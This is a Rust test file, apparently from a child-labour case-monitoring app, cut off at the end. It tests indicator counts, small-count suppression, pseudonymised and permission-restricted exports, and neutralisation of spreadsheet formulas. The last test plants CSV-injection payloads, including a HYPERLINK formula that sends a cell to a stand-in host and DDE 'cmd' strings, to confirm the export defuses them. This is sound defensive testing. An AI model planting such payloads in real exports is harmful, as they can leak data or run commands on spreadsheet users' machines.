    let dir = TempDir::new().unwrap();
    const SUPERVISOR_2: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a09);
    let mut one = open(&dir, "one.db", SUPERVISOR);
    let mut two = open(&dir, "two.db", SUPERVISOR_2);
    let x = one.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    let y = one.create(&child(C01, "Adjoa Kouamé", MONITOR)).unwrap();
    for id in [x.id, y.id] {
        let supervisor = as_role(&mut one, Role::Supervisor);
        supervisor.refer_case(id, referral()).unwrap();
        supervisor
            .add_follow_up(id, follow_up(date(2026, 1, 20)))
            .unwrap();
    }
    merge_both_ways(&mut one, &mut two, x.id, y.id);
    let tables = as_role(&mut one, Role::Supervisor)
        .export_tables(ExportOptions::default())
        .unwrap();
    let cases = tables.iter().find(|t| t.name == "child_cases").unwrap();
    assert_eq!(cases.rows.len(), 2, "both in view");
    for (table, key) in [("referrals", "referral_id"), ("follow_ups", "follow_up_id")] {
        let table = tables.iter().find(|t| t.name == table).unwrap();
        let at = table.columns.iter().position(|c| *c == key).unwrap();
        let keys: Vec<_> = table.rows.iter().map(|r| r[at].clone()).collect();
        let distinct: std::collections::BTreeSet<_> = keys.iter().map(|k| k.to_string()).collect();
        assert_eq!(
            keys.len(),
            2,
            "{key}: one row for each of the child's {keys:?}"
        );
        assert_eq!(distinct.len(), 2, "{key}: {keys:?}");
    }
}

#[test]
fn indicators_count_children_and_inspections_by_dimension_and_period() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    let mine = store
        .create(&Workplace::new(
            "Mine",
            "mining",
            Formality::Informal,
            area(C01),
        ))
        .unwrap();
    let farm = store
        .create(&Workplace::new(
            "Farm",
            "cocoa",
            Formality::Informal,
            area(C02),
        ))
        .unwrap();

    // In C01 at the mine: a hazardous 11-year-old girl, withdrawn; a 13-year-old boy in child
    // labour, referred. In C02: a 16-year-old girl not working (prevented? no: identified).
    let mut a = child(C01, "A", MONITOR);
    a.workplace_id = Some(mine.id);
    hazardous(&mut a);
    let a = store.create(&a).unwrap();
    as_role(&mut store, Role::Supervisor)
        .refer_case(a.id, referral())
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .transition_case(a.id, CaseStatus::ReceivingServices)
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .transition_case(a.id, CaseStatus::Withdrawn)
        .unwrap();
    let mut b = child(C01, "B", MONITOR);
    b.sex = Sex::Male;
    b.workplace_id = Some(mine.id);
    b.date_of_birth = Some(date(2012, 1, 1));
    let b = store.create(&b).unwrap();
    as_role(&mut store, Role::Supervisor)
        .refer_case(b.id, referral())
        .unwrap();
    let mut c = child(C02, "C", MONITOR);
    c.date_of_birth = Some(date(2009, 3, 1));
    c.hours_per_week = 0;
    c.workplace_id = Some(farm.id);
    store.create(&c).unwrap();
    // Outside the period.
    let mut late = child(C02, "D", MONITOR);
    late.identified_on = date(2026, 2, 1);
    store.create(&late).unwrap();

    let mut v = Visit::new(
        VisitKind::LabourInspection,
        &mine,
        SUPERVISOR,
        at(2025, 9, 1, 8),
    );
    v.checklist = ChecklistAnswers {
        checklist: "labour-inspection".into(),
        version: 1,
        answers: [("LI14".to_string(), Answer::No)].into_iter().collect(),
    };
    store.create(&v).unwrap();
    let mut v = Visit::new(
        VisitKind::LabourInspection,
        &mine,
        SUPERVISOR,
        at(2025, 10, 1, 8),
    );
    v.forced_labour
        .insert(ForcedLabourIndicator::DebtBondage, String::new());
    v.forced_labour
        .insert(ForcedLabourIndicator::WithholdingOfWages, String::new());
    store.create(&v).unwrap();
    let mut v = Visit::new(
        VisitKind::CommunityMonitoring,
        &farm,
        SUPERVISOR,
        at(2025, 10, 2, 8),
    );
    v.checklist = ChecklistAnswers {
        checklist: "labour-inspection".into(),
        version: 1,
        answers: [("LI01".to_string(), Answer::Yes)].into_iter().collect(),
    };
    store.create(&v).unwrap();

    let filter = IndicatorFilter {
        area: None,
        from: Some(date(2025, 9, 1)),
        until: Some(date(2026, 1, 1)),
    };
    let ind = store.indicators(&filter).unwrap();
    assert_eq!(
        ind.children,
        ChildCounts {
            identified: 3,
            in_child_labour: 2,
            in_hazardous_work: 1,
            worst_form_suspected: 0,
            referred: 2,
            receiving_services: 1,
            withdrawn_or_prevented: 1,
        }
    );
    assert_eq!(ind.by_sex["female"].identified, 2);
    assert_eq!(ind.by_sex["male"].in_child_labour, 1);
    assert_eq!(ind.by_age_band["under_12"].in_hazardous_work, 1);
    assert_eq!(ind.by_age_band["12_14"].identified, 1);
    assert_eq!(ind.by_age_band["15_17"].identified, 1);
    assert_eq!(ind.by_sector["mining"].identified, 2);
    assert_eq!(ind.by_sector["cocoa"].in_child_labour, 0);
    assert_eq!(ind.by_community[C01].referred, 2);
    assert_eq!(ind.by_district["CI-R1-D1"].identified, 3);
    assert_eq!(ind.by_month["2025-09"].identified, 3);
    assert_eq!(ind.inspections, 2);
    assert_eq!(ind.visits, 3);
    assert_eq!(ind.workplaces_with_violations, 1, "the mine, twice");
    assert_eq!(ind.visits_with_forced_labour_indicators, 1);
    assert_eq!(ind.forced_labour_indicators["debt_bondage"], 1);
    assert_eq!(ind.forced_labour_indicators["withholding_of_wages"], 1);

    // By area; and the whole history without a period.
    let c02 = store
        .indicators(&IndicatorFilter {
            area: Some(AreaFilter::Community(C02.into())),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(c02.children.identified, 2);
    assert_eq!((c02.inspections, c02.visits), (0, 1));
    assert_eq!(c02.workplaces_with_violations, 0);
    let october = store
        .indicators(&IndicatorFilter {
            area: None,
            from: Some(date(2025, 10, 1)),
            until: Some(date(2025, 11, 1)),
        })
        .unwrap();
    assert_eq!((october.children.identified, october.visits), (0, 2));
}

#[test]
fn small_cells_show_as_under_5_at_the_4_5_boundary() {
    assert_eq!(Cell::shared(4), Cell::Suppressed);
    assert_eq!(Cell::shared(5), Cell::Count(5));
    assert_eq!(Cell::shared(0), Cell::Suppressed);
    assert_eq!(Cell::shared(4).to_string(), "x");
    assert_eq!(Cell::shared(5).to_string(), "5");
    assert_eq!(serde_json::to_value(Cell::shared(4)).unwrap(), "x");
    assert_eq!(serde_json::to_value(Cell::shared(5)).unwrap(), 5);

    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    for i in 0..5 {
        let mut c = child(C01, &format!("F{i}"), MONITOR);
        if i < 4 {
            c.sex = Sex::Male;
        }
        store.create(&c).unwrap();
    }
    let ind = store.indicators(&IndicatorFilter::default()).unwrap();
    let exact = ind.to_json();
    assert_eq!(exact["by_sex"]["male"]["identified"], 4);
    let shared = ind.shared();
    assert_eq!(shared["children"]["identified"], 5);
    assert_eq!(shared["children"]["in_child_labour"], 5);
    assert_eq!(shared["by_sex"]["male"]["identified"], "x");
    assert_eq!(shared["by_sex"]["female"]["identified"], "x");
    assert_eq!(shared["inspections"], "x");
    assert_no_cell_can_be_worked_out(&ind);
}

/// The breakdowns of shared indicators: per measure, each dimension's rows against the
/// total, and each district's communities against the district.
fn groups(ind: &Indicators) -> Vec<(ChildCounts, Vec<ChildCounts>, String)> {
    let mut out = Vec::new();
    for (name, map) in [
        ("sex", &ind.by_sex),
        ("age", &ind.by_age_band),
        ("sector", &ind.by_sector),
        ("district", &ind.by_district),
        ("community", &ind.by_community),
        ("month", &ind.by_month),
    ] {
        out.push((ind.children, map.values().copied().collect(), name.into()));
    }
    for (district, counts) in &ind.by_district {
        let parts = ind
            .by_community
            .iter()
            .filter(|(c, _)| ind.community_districts.get(*c) == Some(district))
            .map(|(_, v)| *v)
            .collect();
        out.push((*counts, parts, format!("communities of {district}")));
    }
    out
}

/// Whether `cell` shows `value` (withheld, or the value itself).
fn shown(json: &serde_json::Value, value: i64) -> Option<i64> {
    if json == "x" {
        return None;
    }
    assert_eq!(json, value, "a shown count is the count");
    Some(value)
}

/// The shared view of `ind` withholds every count under 5, and no withheld count is the total
/// of its breakdown less the counts shown beside it (nor a withheld total the sum of parts all
/// shown).
fn assert_no_cell_can_be_worked_out(ind: &Indicators) {
    let shared = ind.shared();
    let cells = shared.to_string();
    assert!(!cells.contains("<5"), "one mark for every withheld count");
    // The shared JSON by the same path as the exact one, cell by cell.
    let exact = ind.to_json();
    fn walk(e: &serde_json::Value, s: &serde_json::Value) {
        match (e, s) {
            (serde_json::Value::Number(n), _) => {
                let n = n.as_i64().unwrap();
                if n < 5 {
                    assert_eq!(s, "x", "{n} is withheld");
                } else {
                    let _ = shown(s, n);
                }
            }
            (serde_json::Value::Object(m), serde_json::Value::Object(o)) => {
                for (k, v) in m {
                    walk(v, &o[k]);
                }
            }
            _ => assert_eq!(e, s),
        }
    }
    walk(&exact, &shared);
    let typed = ind.shared_cells();
    assert_eq!(serde_json::to_value(&typed).unwrap(), shared);
    // Every breakdown, by the JSON path of its cells.
    let rows = |field: &str| -> Vec<serde_json::Value> {
        shared[field]
            .as_object()
            .unwrap()
            .values()
            .cloned()
            .collect()
    };
    let mut breakdowns: Vec<(serde_json::Value, Vec<serde_json::Value>, String)> = Vec::new();
    for field in [
        "by_sex",
        "by_age_band",
        "by_sector",
        "by_district",
        "by_community",
        "by_month",
    ] {
        breakdowns.push((shared["children"].clone(), rows(field), field.into()));
    }
    for district in ind.by_district.keys() {
        let parts = ind
            .by_community
            .keys()
            .filter(|c| ind.community_districts.get(*c) == Some(district))
            .map(|c| shared["by_community"][c].clone())
            .collect();
        breakdowns.push((
            shared["by_district"][district].clone(),
            parts,
            format!("communities of {district}"),
        ));
    }
    let exact_groups = groups(ind);
    assert_eq!(exact_groups.len(), breakdowns.len());
    let names = [
        "identified",
        "in_child_labour",
        "in_hazardous_work",
        "worst_form_suspected",
        "referred",
        "receiving_services",
        "withdrawn_or_prevented",
    ];
    for ((total, parts, name), (s_total, s_parts, _)) in exact_groups.iter().zip(&breakdowns) {
        for (m, measure) in names.iter().enumerate() {
            let t = total.measures()[m];
            let values: Vec<i64> = parts.iter().map(|p| p.measures()[m]).collect();
            assert_eq!(values.iter().sum::<i64>(), t, "{name} {measure} adds up");
            let shown_parts: Vec<Option<i64>> = values
                .iter()
                .zip(s_parts)
                .map(|(v, s)| shown(&s[measure], *v))
                .collect();
            let withheld: Vec<i64> = values
                .iter()
                .zip(&shown_parts)
                .filter(|(_, s)| s.is_none())
                .map(|(v, _)| *v)
                .collect();
            match shown(&s_total[measure], t) {
                Some(t) => {
                    let rest = t - shown_parts.iter().flatten().sum::<i64>();
                    for v in &withheld {
                        assert_ne!(
                            *v, rest,
                            "{name} {measure}: a withheld count is the total less those shown \
                             ({values:?} of {t}, shown {shown_parts:?})"
                        );
                    }
                    assert!(
                        withheld.is_empty() || rest >= 5,
                        "{name} {measure}: the counts withheld make a small group ({rest})"
                    );
                }
                None => assert!(
                    values.is_empty() || !withheld.is_empty(),
                    "{name} {measure}: a withheld total is the sum of the counts shown"
                ),
            }
        }
    }
}

fn add_child(c: &mut ChildCounts, outcome: u8, stage: u8) {
    c.identified += 1;
    if outcome >= 1 {
        c.in_child_labour += 1;
    }
    if outcome == 2 {
        c.in_hazardous_work += 1;
    }
    if outcome == 3 {
        c.worst_form_suspected += 1;
    }
    c.referred += i64::from(stage >= 1);
    c.receiving_services += i64::from(stage >= 2);
    c.withdrawn_or_prevented += i64::from(stage >= 3);
}

/// Indicators as the store counts them, of children given as (sex, age band, sector,
/// community (of two districts), month, outcome, stage).
fn indicators_of(children: &[(u8, u8, u8, u8, u8, u8, u8)]) -> Indicators {
    let mut ind = Indicators::default();
    for &(sex, age, sector, community, month, outcome, stage) in children {
        let district = format!("D{}", community / 3);
        let community = format!("C{community}");
        ind.community_districts
            .insert(community.clone(), district.clone());
        add_child(&mut ind.children, outcome, stage);
        for (map, key) in [
            (
                &mut ind.by_sex,
                ["female", "male"][usize::from(sex)].to_string(),
            ),
            (&mut ind.by_age_band, format!("band{age}")),
            (&mut ind.by_sector, format!("sector{sector}")),
            (&mut ind.by_district, district.clone()),
            (&mut ind.by_community, community),
            (&mut ind.by_month, format!("2026-{:02}", month + 1)),
        ] {
            add_child(map.entry(key).or_default(), outcome, stage);
        }
    }
    ind
}

#[test]
fn no_withheld_count_can_be_worked_out_from_a_shared_report() {
    use proptest::prelude::*;
    // The report's own shape: 8 children, 7 identified in November and 1 in October, 6 girls
    // and 2 boys: the October child and the boys must not be the total less the rest.
    let mut reported = vec![(0, 1, 0, 0, 10, 2, 0); 6];
    reported.push((1, 1, 0, 0, 10, 2, 0));
    reported.push((1, 1, 0, 0, 9, 2, 0));
    let ind = indicators_of(&reported);
    let shared = ind.shared();
    assert_eq!(shared["children"]["identified"], 8);
    assert_eq!(shared["by_month"]["2026-10"]["identified"], "x");
    assert_eq!(shared["by_month"]["2026-11"]["identified"], "x");
    assert_eq!(shared["by_sex"]["male"]["identified"], "x");
    assert_eq!(shared["by_sex"]["female"]["identified"], "x");
    assert_no_cell_can_be_worked_out(&ind);

    let cases = std::env::var("VIGIE_PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(256);
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig::with_cases(cases));
    let child = (0u8..2, 0u8..4, 0u8..3, 0u8..6, 0u8..4, 0u8..4, 0u8..4);
    let strategy = proptest::collection::vec(child, 0..60);
    runner
        .run(&strategy, |children| {
            let ind = indicators_of(&children);
            let result = std::panic::catch_unwind(|| assert_no_cell_can_be_worked_out(&ind));
            prop_assert!(result.is_ok(), "{:?}", ind);
            Ok(())
        })
        .unwrap();
}

// ---------------------------------------------------------------------------------------------
// 5. Exports

fn export_fixture(store: &mut Store) -> (ChildCase, Workplace) {
    let mut w = Workplace::new(
        "Plantation \"Kouassi\", Brou",
        "cocoa",
        Formality::Informal,
        area(C01),
    );
    w.owner_name = "Kouassi Brou".into();
    w.owner_contact = "+225 07 00 00 00".into();
    w.location.point = Some(GeoPoint {
        latitude: 6.812345,
        longitude: -5.276543,
        accuracy_m: Some(8.0),
    });
    let w = store.create(&w).unwrap();
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2025, 9, 1, 9));
    v.findings = "Adjoa portait des sacs chez Kouassi.".into();
    v.gps = w.location.point;
    v.forced_labour
        .insert(ForcedLabourIndicator::DebtBondage, "dette".into());
    v.workforce.female.age_12_14 = 3;
    v.workforce.male.adults = 7;
    store.create(&v).unwrap();
    let mut c = child(C01, "Kouamé Adjoa", MONITOR);
    c.guardian = "Kouamé Yao".into();
    c.household = "Famille Kouamé, quartier Nord".into();
    c.notes = "Adjoa dit qu'elle aimerait retourner à l'école.".into();
    c.workplace_id = Some(w.id);
    let c = store.create(&c).unwrap();
    let (c, _) = as_role(store, Role::Supervisor)
        .refer_case(
            c.id,
            Referral {
                outcome: "Adjoa inscrite en CE2".into(),
                ..referral()
            },
        )
        .unwrap();
    let (c, _) = as_role(store, Role::Supervisor)
        .add_follow_up(c.id, follow_up(date(2025, 9, 30)))
        .unwrap();
    (c, w)
}

/// An export lists a table's rows in their records' id order, whatever order the store took
/// them in: the same records gave two files on SQLite and PostgreSQL (one store order, the
/// other id order).
#[test]
fn an_exports_rows_come_in_their_ids_order() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    // Stored later, created first (a record that reached the hub after another).
    let mut ids: Vec<Uuid> = (0..3).map(|_| Uuid::now_v7()).collect();
    for (id, name) in ids.iter().rev().zip(["Champ C", "Champ B", "Champ A"]) {
        let mut w = Workplace::new(name, "cocoa", Formality::Informal, area(C01));
        w.id = *id;
        store.create(&w).unwrap();
    }
    let out = dir.path().join("export");
    as_role(&mut store, Role::Supervisor)
        .export_to_dir(&out, ExportFormat::Csv, ExportOptions::default())
        .unwrap();
    let (header, rows) = read_csv(&out.join("workplaces.csv"));
    let at = header.iter().position(|h| h == "id").unwrap();
    let listed: Vec<Uuid> = rows.iter().map(|r| r[at].parse().unwrap()).collect();
    ids.sort();
    assert_eq!(listed, ids);
}

fn read_csv(path: &std::path::Path) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

const PERSONAL: [&str; 9] = [
    "Kouam",
    "Adjoa",
    "Kouassi",
    "+225",
    "6.81",
    "5.27",
    "2014-05-10",
    "quartier",
    "dette",
];

#[test]
fn csv_export_is_pseudonymised_by_default() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    let (c, w) = export_fixture(&mut store);
    let out = dir.path().join("export");
    let paths = as_role(&mut store, Role::CommunityMonitor)
        .export_to_dir(&out, ExportFormat::Csv, ExportOptions::default())
        .unwrap();
    let names: Vec<String> = paths
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        [
            "workplaces.csv",
            "visits.csv",
            "child_cases.csv",
            "referrals.csv",
            "follow_ups.csv",
            "erasures.csv"
        ]
    );
    for path in &paths {
        let bytes = std::fs::read(path).unwrap();
        let text = String::from_utf8(bytes).expect("UTF-8");
        for word in PERSONAL {
            assert!(!text.contains(word), "{word} in {}", path.display());
        }
        assert!(text.contains("\r\n"), "RFC 4180 line ends");
    }
    let (header, rows) = read_csv(&out.join("child_cases.csv"));
    assert!(!header.iter().any(|h| h == "name" || h == "date_of_birth"));
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][col("id")], c.id.to_string());
    assert_eq!(rows[0][col("birth_year")], "2014");
    assert_eq!(rows[0][col("community")], C01);
    assert_eq!(rows[0][col("classification")], "child_labour");
    let (header, rows) = read_csv(&out.join("workplaces.csv"));
    assert!(!header.iter().any(|h| h == "latitude" || h == "name"));
    assert_eq!(
        rows[0][header.iter().position(|h| h == "id").unwrap()],
        w.id.to_string()
    );
    let (header, rows) = read_csv(&out.join("visits.csv"));
    let fl = header
        .iter()
        .position(|h| h == "forced_labour_indicators")
        .unwrap();
    assert_eq!(rows[0][fl], "debt_bondage");
    // The workforce as counted, by sex and age band; the indicators' notes are free text.
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    assert_eq!(rows[0][col("workforce_female_12_14")], "3");
    assert_eq!(rows[0][col("workforce_male_adults")], "7");
    assert_eq!(rows[0][col("workforce_male_under_12")], "0");
    assert!(!header.iter().any(|h| h == "forced_labour_notes"));
    let (_, rows) = read_csv(&out.join("referrals.csv"));
    assert_eq!(rows.len(), 1);
    let (_, rows) = read_csv(&out.join("follow_ups.csv"));
    assert_eq!(rows.len(), 1);

    // JSON: the same tables, no personal data either; not beside the CSV export, whose files
    // would go wherever the directory is shared.
    let rule = not_allowed(as_role(&mut store, Role::Inspector).export_to_dir(
        &out,
        ExportFormat::Json,
        ExportOptions::default(),
    ));
    assert!(rule.contains("child_cases.csv"), "{rule}");
    assert!(!out.join("child_cases.json").exists());
    // A directory that cannot be made (through a file, in a place the app may not write) is
    // the caller's input, said on the field.
    for unusable in [
        out.join("child_cases.csv").join("here"),
        std::path::PathBuf::from("/proc/vigie-export"),
        // A file where the directory should be.
        out.join("child_cases.csv"),
    ] {
        match as_role(&mut store, Role::Inspector).export_to_dir(
            &unusable,
            ExportFormat::Json,
            ExportOptions::default(),
        ) {
            Err(Error::Validation(e)) => assert_eq!(e.field, "dir", "{unusable:?}"),
            other => panic!("{unusable:?}: {other:?}"),
        }
    }
    let out = out.with_extension("json");
    let paths = as_role(&mut store, Role::Inspector)
        .export_to_dir(&out, ExportFormat::Json, ExportOptions::default())
        .unwrap();
    assert_eq!(paths.len(), 6);
    let cases: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("child_cases.json")).unwrap()).unwrap();
    assert_eq!(cases[0]["birth_year"], 2014);
    assert!(cases[0].get("name").is_none());
    for path in &paths {
        let text = std::fs::read_to_string(path).unwrap();
        for word in PERSONAL {
            assert!(!text.contains(word), "{word} in {}", path.display());
        }
    }
}

#[test]
fn only_a_supervisor_exports_personal_data_and_quoting_round_trips() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    export_fixture(&mut store);
    let personal = ExportOptions {
        include_personal_data: true,
    };
    for role in [Role::Inspector, Role::CommunityMonitor] {
        not_allowed(as_role(&mut store, role).export_tables(personal));
    }
    let out = dir.path().join("personal");
    as_role(&mut store, Role::Supervisor)
        .export_to_dir(&out, ExportFormat::Csv, personal)
        .unwrap();
    let (header, rows) = read_csv(&out.join("workplaces.csv"));
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    assert_eq!(rows[0][col("name")], "Plantation \"Kouassi\", Brou");
    assert_eq!(rows[0][col("latitude")], "6.812345");
    let (header, rows) = read_csv(&out.join("child_cases.csv"));
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    assert_eq!(rows[0][col("name")], "Kouamé Adjoa");
    assert_eq!(rows[0][col("date_of_birth")], "2014-05-10");
    let (header, rows) = read_csv(&out.join("visits.csv"));
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    assert_eq!(
        rows[0][col("forced_labour_notes")],
        r#"{"debt_bondage":"dette"}"#
    );
    // Only their owner may read the files and the directory made for them; a link left in
    // the directory is replaced, not written through.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&out), 0o700);
        for entry in std::fs::read_dir(&out).unwrap() {
            assert_eq!(mode(&entry.unwrap().path()), 0o600);
        }
        let elsewhere = dir.path().join("elsewhere.txt");
        std::fs::write(&elsewhere, "not an export").unwrap();
        std::fs::remove_file(out.join("visits.csv")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, out.join("visits.csv")).unwrap();
        as_role(&mut store, Role::Supervisor)
            .export_to_dir(&out, ExportFormat::Csv, personal)
            .unwrap();
        assert_eq!(
            std::fs::read_to_string(&elsewhere).unwrap(),
            "not an export"
        );
        assert!(
            !std::fs::symlink_metadata(out.join("visits.csv"))
                .unwrap()
                .is_symlink()
        );

        // An export that fails midway (a full disk; here a directory where a table is
        // written aside) leaves the earlier export whole, and nothing of its own.
        let listing = |dir: &std::path::Path| {
            let mut files: Vec<(String, Vec<u8>)> = std::fs::read_dir(dir)
                .unwrap()
                .map(|e| e.unwrap().path())
                .filter(|p| p.is_file())
                .map(|p| {
                    let name = p.file_name().unwrap().to_string_lossy().into_owned();
                    (name, std::fs::read(&p).unwrap())
                })
                .collect();
            files.sort();
            files
        };
        let earlier = listing(&out);
        let blocker = out.join(".visits.csv.part");
        std::fs::create_dir(&blocker).unwrap();
        std::fs::write(blocker.join("x"), "x").unwrap();
        store
            .create(&Workplace::new(
                "Carrière Nouvelle",
                "mining",
                Formality::Informal,
                area("CI-R1-D1-C01"),
            ))
            .unwrap();
        assert!(
            as_role(&mut store, Role::Supervisor)
                .export_to_dir(&out, ExportFormat::Csv, personal)
                .is_err()
        );
        assert_eq!(listing(&out), earlier);

        // What an export killed midway left aside (no clean-up of its ran) goes with the next.
        std::fs::remove_dir_all(&blocker).unwrap();
        std::fs::write(out.join(".follow_ups.json.part"), "[{\"case_id\":").unwrap();
        as_role(&mut store, Role::Supervisor)
            .export_to_dir(&out, ExportFormat::Csv, personal)
            .unwrap();
        assert!(!out.join(".follow_ups.json.part").exists());
        assert!(
            listing(&out)
                .iter()
                .all(|(name, _)| !name.ends_with(".part")),
            "{:?}",
            listing(&out)
        );
    }

    // An empty store still writes every table with its header.
    let mut empty = open(&dir, "empty.db", SUPERVISOR);
    let tables = as_role(&mut empty, Role::Supervisor)
        .export_tables(ExportOptions::default())
        .unwrap();
    let full = as_role(&mut store, Role::Supervisor)
        .export_tables(ExportOptions::default())
        .unwrap();
    for (e, f) in tables.iter().zip(&full) {
        assert!(e.rows.is_empty());
        assert_eq!(e.columns, f.columns, "{}", e.name);
    }
}

/// A personal export does not write children's names over a pseudonymised one (which may be
/// shared from its directory); the other way round, names are taken away.
#[test]
fn a_personal_export_does_not_replace_a_pseudonymised_one() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    export_fixture(&mut store);
    let personal = ExportOptions {
        include_personal_data: true,
    };
    let shared = dir.path().join("shared");
    for format in [ExportFormat::Csv, ExportFormat::Json] {
        let out = shared.join(format!("{format:?}"));
        let supervisor = as_role(&mut store, Role::Supervisor);
        supervisor
            .export_to_dir(&out, format, ExportOptions::default())
            .unwrap();
        let cases = out.join(format!("child_cases.{}", format.extension()));
        let before = std::fs::read(&cases).unwrap();
        let rule = not_allowed(supervisor.export_to_dir(&out, format, personal));
        assert!(rule.contains("pseudonymised export"), "{rule}");
        assert_eq!(before, std::fs::read(&cases).unwrap(), "nothing written");
        // Pseudonymised again over it: taken; a personal export's directory may take a
        // pseudonymised one, and then refuses personal data too.
        supervisor
            .export_to_dir(&out, format, ExportOptions::default())
            .unwrap();
        let own = dir.path().join(format!("own-{format:?}"));
        supervisor.export_to_dir(&own, format, personal).unwrap();
        supervisor.export_to_dir(&own, format, personal).unwrap();
        supervisor
            .export_to_dir(&own, format, ExportOptions::default())
            .unwrap();
        not_allowed(supervisor.export_to_dir(&own, format, personal));
        // Nor inside one: sharing the directory shares what it holds.
        let inside = out.join("personal");
        not_allowed(supervisor.export_to_dir(&inside, format, personal));
        assert!(!inside.exists());
    }
}

#[test]
fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_them() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "hub.db", SUPERVISOR);
    let mut w = Workplace::new(
        "=HYPERLINK(\"http://x.example/?\"&A1)",
        "cocoa",
        Formality::Informal,
        area(C01),
    );
    w.owner_contact = "+225 07 00 00 00".into();
    // An invisible byte order mark before a formula is refused at the write; a space before
    // one is taken, and made inert in the export.
    w.owner_name = " \u{feff}=1+1".into();
    assert!(store.create(&w).is_err());
    w.owner_name = " =1+1".into();
    w.buyers = [
        "=1+1".to_string(),
        "Coopé; Café".to_string(),
        "Export \\ Nord".to_string(),
    ]
    .into();
    w.location.point = Some(GeoPoint {
        latitude: 6.8,
        longitude: -5.25,
        accuracy_m: None,
    });
    // Pasted from a word processor: its line break (a vertical tab). Taken (an honest paste),
    // and made a line break in the export.
    w.notes = "Piste\u{b}boueuse en saison".into();
    let w = store.create(&w).unwrap();
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2025, 9, 1, 9));
    v.findings = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    v.forced_labour.insert(
        ForcedLabourIndicator::Isolation,
        "Campement;=cmd|' /C calc'!A0;".into(),
    );
    let v = store.create(&v).unwrap();
    let mut c = child(C01, "-2+3+cmd|' /C calc'!A0", MONITOR);
    c.identified_on_visit = Some(v.id);
    c.notes = "Ligne un\r\n=HYPERLINK(\"http://x.example/\");\"=1+1\"\n\tdeux".into();
    let c = store.create(&c).unwrap();
    as_role(&mut store, Role::Supervisor)
        .refer_case(
            c.id,
            Referral {
                provider: "+École de Kouamé Adjoa".into(),
                // A provider is one line; a text may start with a tab.
                outcome: "\tInscrite le 3 mars".into(),
                ..referral()
            },
        )
        .unwrap();

    let out = dir.path().join("personal");
    let personal = ExportOptions {
        include_personal_data: true,
    };
    as_role(&mut store, Role::Supervisor)
        .export_to_dir(&out, ExportFormat::Csv, personal)
        .unwrap();
    let cell = |file: &str, column: &str| {
        let (header, rows) = read_csv(&dir.path().join("personal").join(file));
        let at = header.iter().position(|h| h == column).unwrap();
        rows[0][at].clone()
    };
    assert_eq!(
        cell("workplaces.csv", "name"),
        "'=HYPERLINK(\"http://x.example/?\"&A1)"
    );
    assert_eq!(cell("workplaces.csv", "owner_contact"), "'+225 07 00 00 00");
    // A list is one cell, its items joined, made inert as a whole; an item's own `;` and `\`
    // escaped, so that the cell splits back into its items.
    assert_eq!(
        cell("workplaces.csv", "buyers"),
        "'=1+1;Coopé\\; Café;Export \\\\ Nord"
    );
    // Blanks before the sign do not hide it.
    assert_eq!(cell("workplaces.csv", "owner_name"), "' =1+1");
    assert_eq!(cell("workplaces.csv", "notes"), "Piste\nboueuse en saison");
    // A number is no formula: a negative longitude stays a number.
    assert_eq!(cell("workplaces.csv", "longitude"), "-5.25");
    assert_eq!(
        cell("visits.csv", "findings"),
        "'@SUM(1+1)*cmd|' /C calc'!A0"
    );
    // The notes of each indicator are an object's JSON text: a part after a `;` in a note
    // is a cell's start for Excel in French all the same.
    assert_eq!(
        cell("visits.csv", "forced_labour_notes"),
        "{\"isolation\":\"Campement;'=cmd|' /C calc'!A0;\"}"
    );
    assert_eq!(cell("child_cases.csv", "name"), "'-2+3+cmd|' /C calc'!A0");
    // A part after a line break starts a row in Excel set to French: made inert as a part
    // after a `;` is; and a part in quotes is the formula they hold.
    assert_eq!(
        cell("child_cases.csv", "notes"),
        "Ligne un\r\n'=HYPERLINK(\"http://x.example/\");'\"=1+1\"\n'\tdeux"
    );
    assert_eq!(cell("referrals.csv", "provider"), "'+École de Kouamé Adjoa");
    assert_eq!(cell("referrals.csv", "outcome"), "'\tInscrite le 3 mars");
    assert_eq!(cell("visits.csv", "children_identified"), "1");
    // JSON is data, not a sheet: the text as written.
    let tables = as_role(&mut store, Role::Supervisor)
        .export_tables(personal)
        .unwrap();
    assert!(
        tables[0].rows[0].contains(&serde_json::json!("=HYPERLINK(\"http://x.example/?\"&A1)"))
    );
    // Lists stay lists, their items as written (one may hold a `;`).
    assert!(
        tables[0].rows[0].contains(&serde_json::json!([
            "=1+1",
            "Coopé; Café",
